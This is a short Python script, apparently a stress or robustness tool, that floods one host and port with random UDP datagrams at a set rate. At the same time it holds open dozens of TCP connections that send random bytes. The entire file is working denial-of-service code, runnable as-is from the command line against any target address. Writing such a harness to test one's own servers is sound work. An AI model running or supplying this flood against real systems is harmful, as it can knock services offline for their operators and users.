"""A flood of junk datagrams and half-open TLS connections towards one party: `HOST PORT DATAGRAMS_PER_S`."""

import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Final

TURN_S: Final = 0.002
CONNECTIONS: Final = 64


def pour(
    host: str, port: int, per_s: int, wait: Callable[[float], object], now_s: Callable[[], float]
) -> None:
    """Until it is killed. Datagrams are random, so none begins with a known tag but by chance."""
    junk = [os.urandom(size) for size in (40, 200, 600, 1_200) for _ in range(16)]
    threading.Thread(target=knock, args=[host, port, wait], daemon=True).start()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as source:
        source.connect((host, port))
        began_s, sent = now_s(), 0
        while True:
            due = int((now_s() - began_s) * per_s) - sent
            for number in range(due):
                with suppress(OSError):
                    source.send(junk[number % len(junk)])
            sent += due
            wait(TURN_S)


def knock(host: str, port: int, wait: Callable[[float], object]) -> None:
    """Connections that say nothing, or nonsense, and stay as long as they are let."""
    open_ones: list[socket.socket] = []
    while True:
        with suppress(OSError):
            connection = socket.create_connection((host, port), 1.0)
            open_ones.append(connection)
            connection.sendall(os.urandom(100))
        if len(open_ones) > CONNECTIONS:
            open_ones.pop(0).close()
        wait(0.005)


if __name__ == "__main__":
    pour(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), threading.Event().wait, time.monotonic)
